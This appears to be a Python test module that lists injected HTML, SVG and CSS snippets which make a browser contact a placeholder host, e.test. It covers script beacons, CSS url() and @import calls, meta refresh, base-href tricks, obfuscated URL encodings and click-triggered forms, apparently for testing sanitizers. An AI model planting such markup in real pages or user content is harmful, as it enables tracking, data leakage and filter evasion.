"""Markup that opens an address elsewhere, most of it without any script."""

from __future__ import annotations

from tests.browser.payloads.vector import BODY, each_of

__all__ = ["FETCHING"]

ELEMENTS = (
    "<img src=http://e.test/NUM>",
    "<image src=http://e.test/NUM>",
    "<img srcset='http://e.test/NUM 1x'>",
    "<img sizes=9px srcset='http://e.test/NUM 9w'>",
    "<picture><source srcset=http://e.test/NUM><img></picture>",
    "<picture><source media=all srcset='http://e.test/NUM 2x'><img></picture>",
    "<input type=image src=http://e.test/NUM>",
    "<video poster=http://e.test/NUM></video>",
    "<video src=http://e.test/NUM></video>",
    "<audio src=http://e.test/NUM></audio>",
    "<video><source src=http://e.test/NUM></video>",
    "<video crossorigin><track default src=http://e.test/NUM></video>",
    "<svg><image href=http://e.test/NUM></svg>",
    "<svg><image xlink:href=http://e.test/NUM></svg>",
    "<svg><filter><feImage href=http://e.test/NUM /></filter></svg>",
    "<svg><image><set attributeName=href to=http://e.test/NUM /></image></svg>",
    "<svg><use href=http://e.test/NUM#x></use></svg>",
    "<svg><script href=http://e.test/NUM /></svg>",
    "<script src=http://e.test/NUM></script>",
    "<script async crossorigin src=http://e.test/NUM></script>",
    "<script type=module src=http://e.test/NUM></script>",
    "<iframe src=http://e.test/NUM></iframe>",
    "<iframe srcdoc='<img src=http://e.test/NUM>'></iframe>",
    "<iframe sandbox src=http://e.test/NUM></iframe>",
    "<iframe src='data:text/html,<img src=http://e.test/NUM>'></iframe>",
    "<frameset><frame src=http://e.test/NUM></frameset>",
    "<object data=http://e.test/NUM></object>",
    "<object type=image/png data=http://e.test/NUM></object>",
    "<embed src=http://e.test/NUM>",
    "<embed type=text/html src=http://e.test/NUM>",
    "<div><template shadowrootmode=open><img src=http://e.test/NUM></template></div>",
    "<math><mtext><img src=http://e.test/NUM></mtext></math>",
    *(
        f"<{tag} background=http://e.test/NUM>x"
        for tag in ("body", "table", "table><td", "table><th", "table><tr")
    ),
)
LINKS = (
    *(
        f"<link rel={relation} href=http://e.test/NUM>"
        for relation in (
            "stylesheet",
            "'alternate stylesheet' title=x",
            "stylesheet type=text/css media=print",
            "prefetch",
            "modulepreload",
            "'preload' as=image",
            "'preload' as=script",
            "'preload' as=style",
            "'preload' as=font crossorigin",
            "'preload' as=fetch crossorigin",
            "'preload' as=track crossorigin",
            "compression-dictionary",
        )
    ),
    "<link rel=preload as=image imagesrcset='http://e.test/NUM 1x'>",
    "<link rel='x StyleSheet' href=http://e.test/NUM>",
    "<svg><desc><link rel=stylesheet href=http://e.test/NUM></desc></svg>",
)
GOING = (
    "<meta http-equiv=refresh content='0;url=http://e.test/NUM'>",
    "<meta http-equiv=REFRESH content='0,http://e.test/NUM'>",
    "<meta http-equiv=refresh content='0 http://e.test/NUM'>",
    "<meta http-equiv=refresh content='.1; URL = \"http://e.test/NUM\"'>",
    "<meta http-equiv='&#114;efresh' content='0;url&#61;http://e.test/NUM'>",
    "<svg><desc><meta http-equiv=refresh content='0;url=http://e.test/NUM'></desc></svg>",
    "<base href=http://e.test/NUM/><img src=x>",
    "<base href=http://e.test/NUM/><script src=x></script>",
    "<base href=http://e.test/NUM/><link rel=stylesheet href=x>",
    "<base href=http://e.test/NUM/><style>*{background:url(x)}</style>",
    "<script>location='http://e.test/NUM'</script>",
    "<script>document.forms[0].submit()</script><form action=http://e.test/NUM></form>"
    "<script>document.forms[0].submit()</script>",
)
ASKING = tuple(
    f"<script>{act}</script>"
    for act in (
        "fetch('http://e.test/NUM',{mode:'no-cors'})",
        "navigator.sendBeacon('http://e.test/NUM')",
        "new Image().src='http://e.test/NUM'",
        "new EventSource('http://e.test/NUM')",
        "new WebSocket('ws://e.test/NUM')",
        "new Audio('http://e.test/NUM')",
        "import('http://e.test/NUM')",
        "with(new XMLHttpRequest)open('GET','http://e.test/NUM'),send()",
        "new FontFace('x','url(http://e.test/NUM)').load()",
        "document.write('<img src=http://e.test/NUM>')",
        "new Worker(URL.createObjectURL(new Blob(['importScripts(`http://e.test/NUM`)'])))",
    )
)
SHEETS = tuple(
    f"<style>{sheet}</style>x"
    for sheet in (
        "@import 'http://e.test/NUM';",
        "@import url(http://e.test/NUM);",
        "@import url(http://e.test/NUM) layer(x) supports(color:red) screen;",
        "@\\69mport 'http://e.test/NUM';",
        "@layer x;@import 'http://e.test/NUM';",
        "*{background:url(http://e.test/NUM)}",
        "*{background:u\\72l(http://e.test/NUM)}",
        "*{background:\\75 rl(http://e.test/NUM)}",
        "*{background:url('http:\\2f\\2f e.test/NUM')}",
        '*{background:url("http://e.te\\\nst/NUM")}',
        "*{--x:url(http://e.test/NUM);background:var(--x)}",
        "*{bac\\kground:url(http://e.test/NUM)}",
        "<!--*{background:url(http://e.test/NUM)}-->",
        "*{background:url(http://e.test/NUM",
        "*::before{content:url(http://e.test/NUM)}",
        "*::after{content:'';background:url(http://e.test/NUM)}",
        "*::first-line{background:url(http://e.test/NUM)}",
        "@media all{*{background:url(http://e.test/NUM)}}",
        "@supports(color:red){*{background:url(http://e.test/NUM)}}",
        "@layer{*{background:url(http://e.test/NUM)}}",
        "@scope(html){:scope{background:url(http://e.test/NUM)}}",
        "@container(width>0){*{background:url(http://e.test/NUM)}}html{container-type:inline-size}",
        "html{& body{background:url(http://e.test/NUM)}}",
        "html:has(style){background:url(http://e.test/NUM)}",
        "@property --x{syntax:'<url>';inherits:true;initial-value:url(http://e.test/NUM)}*{background:var(--x)}",
        "@keyframes x{0%,to{background:url(http://e.test/NUM)}}*{animation:x 9s}",
        "*{transition:all 9s;@starting-style{background:url(http://e.test/NUM)}}",
        "@font-face{font-family:x;src:url(http://e.test/NUM)}*{font-family:x}",
        "@font-face{font-family:x;src:local(x),url(http://e.test/NUM)format('woff2')}*{font-family:x}",
        "@font-face{font-family:x;src:url(http://e.test/NUM);unicode-range:U+78}*{font-family:x}",
        "[style]{}*{cursor:url(http://e.test/NUM),auto}",
    )
)
PROPERTIES = (
    *(
        f"<b style='display:list-item;border:1px solid;float:left;{rule}'>x</b>"
        for rule in (
            "background:url(http://e.test/NUM)",
            "background-image:url(http://e.test/NUM)",
            "background:none,url(http://e.test/NUM)",
            'background:image-set("http://e.test/NUM" 1x)',
            "background:-webkit-image-set(url(http://e.test/NUM)1x)",
            "background:-webkit-cross-fade(url(http://e.test/NUM),url(x),50%)",
            "background:URL(http://e.test/NUM)",
            "background:url(&quot;http://e.test/NUM&quot;)",
            "background&#58;url(http://e.test/NUM)",
            "list-style:url(http://e.test/NUM)",
            "list-style-image:url(http://e.test/NUM)",
            "border-image:url(http://e.test/NUM)1",
            "border-image-source:url(http://e.test/NUM)",
            "-webkit-border-image:url(http://e.test/NUM)1",
            "content:url(http://e.test/NUM)",
            "cursor:url(http://e.test/NUM),auto",
            "mask:url(http://e.test/NUM)",
            "mask-image:url(http://e.test/NUM)",
            "-webkit-mask-image:url(http://e.test/NUM)",
            "-webkit-mask-box-image:url(http://e.test/NUM)",
            "-webkit-box-reflect:below 0 url(http://e.test/NUM)",
            "shape-outside:url(http://e.test/NUM)",
            "filter:url(http://e.test/NUM#x)",
            "backdrop-filter:url(http://e.test/NUM#x)",
            "clip-path:url(http://e.test/NUM#x)",
        )
    ),
    "<svg><rect fill='url(http://e.test/NUM#x)' width=9 height=9 /></svg>",
    "<svg><rect filter='url(http://e.test/NUM#x)' width=9 height=9 /></svg>",
    "<svg><rect mask='url(http://e.test/NUM#x)' width=9 height=9 /></svg>",
    "<svg><path marker-end='url(http://e.test/NUM#x)' d='M0 0L9 9'/></svg>",
    "<svg><style>*{background:url(http://e.test/NUM)}</style></svg>",
    "<svg><style>&#42;{background:url(http://e.test/NUM)}</style></svg>",
)
ADDRESSES = tuple(
    f'<img src="{address}">'
    for address in (
        "//e.test/NUM",
        "\\\\e.test/NUM",
        "/\\e.test/NUM",
        "/\t/e.test/NUM",
        "http:\\\\e.test\\NUM",
        "https:e.test/NUM",
        "https:///e.test/NUM",
        "HTTP://E.TEST/NUM",
        "ht\ntp://e.te\tst/NUM",
        "&#104;ttp&colon;&sol;&sol;e.test&sol;NUM",
        "http://%65.test/NUM",
        "http://ｅ.test/NUM",
        "http://e。test/NUM",
        "http://e\u00ad.test/NUM",
        "http://user@e.test/NUM",
        "http://page.test&commat;e.test/NUM",
        "http://e.test:80/NUM",
        "http://e.test/x/../NUM",
        "http://e.test/x/%2E%2e/NUM",
        "   http://e.test/NUM   ",
    )
)
PRESSED = (
    "<a href=http://e.test/NUM>press</a>",
    "<a href=# ping=http://e.test/NUM>press</a>",
    "<svg><a href=http://e.test/NUM><text y=20>press</text></a></svg>",
    "<form action=http://e.test/NUM><button>press</button></form>",
    "<form method=post action=http://e.test/NUM><button>press</button></form>",
    "<form><button formaction=http://e.test/NUM>press</button></form>",
    "<form action=http://e.test/NUM><label>press<input type=image></label></form>",
    "<base href=http://e.test/NUM/><a href=x>press</a>",
    "<base target=_top><a href=http://e.test/NUM>press</a>",
    "<label>press<input type=checkbox><style>:checked{background:url(http://e.test/NUM);appearance:none}</style>",
    "<style>b:hover{background:url(http://e.test/NUM)}</style><b>press</b>",
    "<style>b:active{background:url(http://e.test/NUM)}</style><b>press</b>",
)
FETCHING = (
    *each_of(ELEMENTS, BODY),
    *each_of(LINKS, BODY),
    *each_of(GOING, BODY),
    *each_of(ASKING, BODY),
    *each_of(SHEETS, BODY),
    *each_of(PROPERTIES, BODY),
    *each_of(ADDRESSES, BODY),
    *each_of(PRESSED, BODY, is_pressed=True),
)
